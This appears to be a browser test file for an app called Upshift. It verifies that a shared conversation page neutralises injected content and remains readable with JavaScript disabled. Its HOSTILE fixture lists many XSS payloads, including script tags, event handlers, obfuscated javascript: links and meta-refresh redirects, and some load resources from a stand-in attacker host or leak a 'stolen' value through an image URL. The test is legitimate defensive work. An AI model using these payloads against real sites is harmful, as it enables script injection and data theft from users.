// The page of a shared copy in a browser: hostile words do nothing on it, and it can be read where nothing runs.

import type { Browser } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { launchChromiumIfAny } from "../support/chromium.ts";
import { newConversation, type Stage } from "./journey.ts";
import { ALICE, startSharingStage, type SharingStage } from "./sharing-stage.ts";

const browser: Browser | null = await launchChromiumIfAny();
let stage: Stage;
let send: SharingStage["send"];
let say: SharingStage["say"];
let share: SharingStage["share"];
beforeAll(async () => {
  ({ stage, send, say, share } = await startSharingStage());
});
afterAll(async () => {
  await browser?.close();
  await stage.close();
});

let id: string;
beforeEach(() => {
  id = newConversation("shared");
});

const ELSEWHERE = "https://attacker.example";
const RUN = "document.title='owned'";
const HOSTILE = [
  `<script>${RUN}</script>`,
  `Inline <img src="${ELSEWHERE}/a.png" onerror="${RUN}"> and <b onclick="${RUN}">bold</b>`,
  `</article></main><script src="${ELSEWHERE}/x.js"></script>`,
  `<svg onload="${RUN}"></svg><iframe src="${ELSEWHERE}"></iframe><style>@import "${ELSEWHERE}/i.css"</style>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/j"><base href="${ELSEWHERE}/">`,
  `![pixel](${ELSEWHERE}/pixel.png?stolen=secret) ![](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `[one](javascript:${RUN}) [two](JaVaScRiPt&colon;${RUN}) [three](data:text/html,x) [four](//attacker.example)`,
  `[five](&#106;avascript:${RUN}) <javascript:${RUN}> [six](vbscript:x "title" onclick=x)`,
  `[seven](${ELSEWHERE}/"onmouseover="${RUN}) [eight][ref]`,
  `[ref]: ${ELSEWHERE}/'"><script>${RUN}</script>`,
  `\`\`\`"><script>${RUN}</script>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `| a | <script>${RUN}</script> |\n| - | - |\n| ![x](${ELSEWHERE}/t.png) | <img src=${ELSEWHERE}/u.png> |`,
  `- [x] <input autofocus onfocus="${RUN}">\n- [ ] $<script>${RUN}</script>$`,
].join("\n\n");
/** Deeper than any stack. */
const DEEP = `${">".repeat(3_000)} <script>${RUN}</script>`;

const GOOD = [
  "# Whales\n\nA whale is a **mammal**, not a *fish*; see [the source](https://example.com/whales).",
  "1. It breathes *air*.\n2. It is warm-blooded.\n   - so is a seal\n\n> Quoted, with `code`.",
  "```ts\nconst whale = { legs: 0, lungs: 2, name: 'a rather long line of code that goes on past the edge of a narrow screen' };\n```",
  "| animal | breathes | lays eggs | weight in tonnes | home |\n| - | - | - | - | - |\n| whale | air | no | 150 | every ocean |",
  "Energy is $E = mc^2$, and 3 &lt; 4.",
].join("\n\n");

describe("In a browser", () => {
  test.skipIf(browser === null)(
    "hostile words are read and do nothing, also where scripts could run",
    async () => {
      await say(id, HOSTILE, HOSTILE);
      await say(id, DEEP, DEEP);
      await send("PATCH", `/api/conversations/${id}`, ALICE, { title: `</title><script>${RUN}</script>` });
      const url = await share(id, ["tools", "thinking", "receipts"]);
      const context = await browser!.newContext();
      const page = await context.newPage();
      const requests: string[] = [];
      const complaints: string[] = [];
      page.on("request", (request) => requests.push(request.url()));
      page.on("console", (message) => complaints.push(message.text()));
      page.on("pageerror", (error) => complaints.push(error.message));
      page.on("dialog", (dialog) => complaints.push(dialog.message()));
      await page.goto(url, { waitUntil: "networkidle" });
      expect(await page.title()).toBe(`</title><script>${RUN}</script> · Upshift`);
      expect(complaints).toEqual([]);
      expect(requests.filter((address) => !address.startsWith(stage.url))).toEqual([]);
      expect(page.url()).toBe(url);
      const found = await page.evaluate(() => ({
        acting: document.querySelectorAll(
          "script, img, svg, iframe, object, form, input, base, style, [http-equiv]",
        ).length,
        handlers: [...document.querySelectorAll("*")].filter((element) =>
          [...element.attributes].some(({ name }) => name.startsWith("on") || name === "style"),
        ).length,
        links: [...document.querySelectorAll("a")].map(({ protocol }) => protocol),
        articles: document.querySelectorAll("main > article").length,
        text: document.body.textContent,
      }));
      expect(found).toMatchObject({ acting: 0, handlers: 0, articles: 4 });
      expect(new Set(found.links)).toEqual(new Set(["https:"]));
      expect(found.text).toContain(`<script>${RUN}</script>`);
      expect(await context.cookies()).toEqual([]);
      await context.close();
    },
  );

  test.skipIf(browser === null).each([
    ["light", 375],
    ["light", 1280],
    ["dark", 375],
    ["dark", 1280],
  ] as const)(
    "it is a page to read without JavaScript, %s and %d pixels wide",
    async (colorScheme, width) => {
      await say(id, "Is a whale a fish?\n  Say it with a table.", GOOD);
      const url = await share(id, ["thinking", "receipts"]);
      const context = await browser!.newContext({
        javaScriptEnabled: false,
        colorScheme,
        viewport: { width, height: 900 },
      });
      const page = await context.newPage();
      const complaints: string[] = [];
      page.on("console", (message) => complaints.push(message.text()));
      const failed: string[] = [];
      page.on("response", (response) => response.ok() || failed.push(response.url()));
      await page.goto(url, { waitUntil: "networkidle" });
      expect(await page.locator("main > article").count()).toBe(2);
      expect(await page.locator("main h2").allTextContents()).toEqual(["The user", "Upshift"]);
      expect(await page.locator("main > article:nth-child(2) > h3").textContent()).toBe("Whales");
      expect(await page.locator("footer").textContent()).toMatch(/copy that was made with Upshift/);
      const shown = await page.evaluate(() => {
        const { backgroundColor, color } = getComputedStyle(document.body);
        return { backgroundColor, color, overflow: document.documentElement.scrollWidth - innerWidth };
      });
      expect(shown).toEqual({
        backgroundColor: colorScheme === "light" ? "rgb(250, 249, 246)" : "rgb(23, 22, 20)",
        color: colorScheme === "light" ? "rgb(29, 28, 25)" : "rgb(235, 232, 225)",
        overflow: 0,
      });
      await page.getByText("Thinking").click();
      expect(await page.getByText("Hm.").isVisible()).toBe(true);
      expect([complaints, failed]).toEqual([[], []]);
      await context.close();
    },
  );
});
